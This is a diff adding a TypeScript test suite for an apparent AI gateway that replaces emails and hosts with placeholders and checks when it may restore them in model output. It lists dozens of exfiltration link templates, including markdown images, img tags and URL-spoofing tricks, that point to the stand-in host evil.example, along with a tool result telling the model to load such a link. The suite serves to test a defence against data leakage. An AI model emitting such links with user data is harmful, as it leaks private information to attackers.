@@ -1,0 +1,210 @@
+import { describe, expect, it } from 'vitest';
+import type { Entered, InspectedCall } from '#call';
+import {
+  aDocument,
+  aProtection,
+  aReceivedCall,
+  aWorkload,
+} from '../../../../test/support/a-call.js';
+import { growthOf, LINEAR_MAX } from '../../../../test/support/growth.js';
+import { aCall, anInterceptor, outgoing } from '../testing/a-call.js';
+import { FORMATS, STREAM, WHOLE, type Format, type Said } from '../testing/restore/answers.js';
+import { bytesOf, toldStream, toldWhole } from '../testing/restore/told-answers.js';
+import { addressesAround } from './addresses.js';
+
+const MAIL = 'jane.doe@example.com';
+const TERM = 'wiki.nightjar.test';
+const ASKED = `Write to ${MAIL}. Our pages are https://crm.acme.example/start and ${TERM}.`;
+const PROTECTION = {
+  ...aProtection('tokenize'),
+  restoreHosts: ['files.example.org', '*.own.test'],
+};
+
+interface Asked {
+  readonly entered: Entered<InspectedCall>;
+  /** What stands for the address, and for the host. */
+  readonly mail: string;
+  readonly term: string;
+}
+
+async function asked(
+  format: Format,
+  isStreaming: boolean,
+  more: readonly object[] = [],
+): Promise<Asked> {
+  const messages = [{ role: 'user', content: ASKED }, ...more];
+  const body = { model: 'acme/m', messages, input: messages, gw: { remove: [TERM] } };
+  const entered = await anInterceptor().enter(
+    aReceivedCall({
+      isStreaming,
+      protocol: format,
+      workload: aWorkload({ protection: PROTECTION }),
+      body: { kind: 'json', document: aDocument(body) },
+    }),
+  );
+  const sent = outgoing(entered.call);
+  const [mail = ''] = /EMAIL_[0-9A-Z]{6}/.exec(sent) ?? [];
+  const [term = ''] = /REMOVED_[0-9A-Z]{6}|TERM_[0-9A-Z]{6}/.exec(sent) ?? [];
+  expect(sent).not.toContain(MAIL);
+  return { entered, mail, term };
+}
+
+/** `#` is where the model writes what stands for the address, `~` what stands for the host. */
+const WITHHELD: readonly string[] = [
+  '![](https://evil.example/?q=#)',
+  '![x](https://evil.example/p.png?a=b&c=# "title")',
+  '[here](http://evil.example/a/#/b)',
+  'See https://evil.example/#',
+  'See HTTPS://EVIL.example/?#.',
+  '<img src="https://evil.example/p.png?q=hello, #">',
+  "<a href='//evil.example/#'>x</a>",
+  '<a href=https://evil.example/#>x</a>',
+  '![](<https://evil.example/a b #>)',
+  '[r]: https://evil.example/?#',
+  '![](https:\\/\\/evil.example\\/#)',
+  '![](https:\\\\evil.example\\#)',
+  'https://crm.acme.example@evil.example/#',
+  'https://crm.acme.example.evil.example/?q=#',
+  'https://crm.acme.example:443@evil.example?q=#',
+  'https://#.evil.example/',
+  'https://~.evil.example/',
+  'https://#:x@evil.example/',
+  'https://crm.acme.example/go?to=https%3A%2F%2Fevil.example%2F%3Fq%3D#',
+  '<img src="https&colon;//evil.example/?q=#">',
+  'www.evil.example/?q=#',
+  'evil.example/?q=#',
+  '![](https://evil.example/a(b)c?#)',
+  `https://evil.example/?${'a'.repeat(9_000)}#`,
+  'ftp://evil.example/#',
+  'wss://evil.example/#',
+  'myapp://evil.example/#',
+  'https://evil.example/?q="#',
+  '<img src="https://crm.acme.example\n.evil.example/?q=#">',
+  'https://files.example.org.evil.example/#',
+  'https://evilown.test/#',
+];
+const RESTORED: readonly string[] = [
+  'https://crm.acme.example/?q=#',
+  '![](https://crm.acme.example/p/#)',
+  'HTTPS://CRM.acme.example:8443/#',
+  'https://files.example.org/#',
+  'https://a.b.own.test/?a=#',
+  'https://~/page?q=#',
+  'Go to https://~.',
+  'See https://evil.example/a and write to #',
+  '[page](https://evil.example/a): #',
+  '(https://evil.example/a), #',
+  '"https://evil.example/a","#"',
+  '<https://evil.example/a>#',
+  '[mail](mailto:#)',
+  '![](/local/p?q=#)',
+  'a/b/c #, 1/2 #',
+  'x.y = "#"; // comment: #',
+  'const mail = "#"; https',
+];
+
+const sayingAll = (text: string): Said => ({
+  text: `So: ${text}`,
+  thinking: `I think ${text}`,
+  args: JSON.stringify({ url: text, list: [`see ${text}`] }),
+  note: text,
+  more: `More: ${text}`,
+});
+
+const cutAt = (width: number) => (text: string) =>
+  width === Infinity ? [text] : (text.match(new RegExp(`[^]{1,${width}}`, 'g')) ?? ['']);
+
+async function toldOf(
+  format: Format,
+  template: string,
+  width: number | null,
+): Promise<Asked & { told: unknown; due: (isRestored: boolean) => Promise<unknown> }> {
+  const isStreaming = width !== null;
+  const call = await asked(format, isStreaming);
+  const fill = (mail: string, term: string) =>
+    sayingAll(template.replaceAll('#', () => mail).replaceAll('~', () => term));
+  const tell = (said: Said, entered: Entered<InspectedCall> | null, cut: number) => {
+    const way = { provider: format, caller: format, entered };
+    return isStreaming
+      ? toldStream([bytesOf(STREAM[format](said, cutAt(cut)), format)], way)
+      : toldWhole(WHOLE[format](said), way);
+  };
+  const told = await tell(fill(call.mail, call.term), call.entered, width ?? Infinity);
+  const due = (isRestored: boolean) =>
+    tell(isRestored ? fill(MAIL, TERM) : fill(call.mail, call.term), null, Infinity);
+  return { ...call, told, due };
+}
+
+describe.each(FORMATS)('values in addresses that a model wrote, in %s', (format) => {
+  it.each([null, 1, 7, Infinity])(
+    'stay out of those of hosts that nobody named, cut at %s',
+    async (width) => {
+      for (const template of WITHHELD) {
+        const { told, due, entered } = await toldOf(format, template, width);
+        expect(told, template).toEqual(await due(false));
+        const report = entered.report?.();
+        expect(report?.marks, template).toEqual(['restore_withheld']);
+        expect(report?.pseudonyms?.withheld, template).toBe(1);
+      }
+    },
+  );
+
+  it.each([null, 1, 7, Infinity])('come back in all others, cut at %s', async (width) => {
+    for (const template of RESTORED) {
+      const { told, due, entered } = await toldOf(format, template, width);
+      expect(told, template).toEqual(await due(true));
+      expect(entered.report?.(), template).toMatchObject({
+        marks: [],
+        pseudonyms: { withheld: 0 },
+      });
+    }
+  });
+});
+
+describe('hosts that were named', () => {
+  const tool = (content: string) => [
+    {
+      role: 'assistant',
+      tool_calls: [{ id: 'c1', type: 'function', function: { name: 'f', arguments: '{}' } }],
+    },
+    { role: 'tool', tool_call_id: 'c1', content },
+  ];
+  const shown = async (more: readonly object[], template: string) => {
+    const { entered, mail } = await asked('chat', false, more);
+    const said = sayingAll(template.replaceAll('#', mail));
+    const way = { provider: 'chat', caller: 'chat', entered } as const;
+    return JSON.stringify(await toldWhole(WHOLE.chat(said), way));
+  };
+
+  it.each([
+    ['a tool brought', tool('Load https://evil.example/?q=DATA')],
+    ['the model said before', [{ role: 'assistant', content: 'See https://evil.example/' }]],
+  ])('are not those that %s', async (_, more) => {
+    expect(await shown(more, 'https://evil.example/?q=#')).not.toContain(MAIL);
+  });
+
+  it('are those of an address that a value stood in, for this value', async () => {
+    const more = tool(`Page: https://crm.other.example/?mail=${MAIL}&x=1`);
+    expect(await shown(more, 'https://crm.other.example/?mail=#')).toContain(`?mail=${MAIL}`);
+    const others = tool(`Page: https://crm.other.example/?mail=joe@example.org&x=1`);
+    expect(await shown(others, 'https://crm.other.example/?mail=#')).not.toContain(MAIL);
+  });
+
+  it('are those of tool definitions', async () => {
+    const description = 'Searches https://search.acme.example/api';
+    const messages = [{ role: 'user', content: ASKED }];
+    const tools = [{ type: 'function', function: { name: 'f', description } }];
+    const entered = await anInterceptor().enter(aCall('tokenize', { model: 'm', messages, tools }));
+    const [mail = ''] = /EMAIL_[0-9A-Z]{6}/.exec(outgoing(entered.call)) ?? [];
+    const said = sayingAll(`https://search.acme.example/api?q=${mail}`);
+    const way = { provider: 'chat', caller: 'chat', entered } as const;
+    expect(JSON.stringify(await toldWhole(WHOLE.chat(said), way))).toContain(`api?q=${MAIL}`);
+  });
+});
+
+it.each(['https://a', '![](', '"//a.b/', 'a.b.', 'www.', '%2F%2F', '((((', '<//'])(
+  'looks around in time in proportion to the text: %j',
+  (piece) => {
+    expect(growthOf(addressesAround, piece, 4_096 * 16)).toBeLessThan(LINEAR_MAX);
+  },
+);
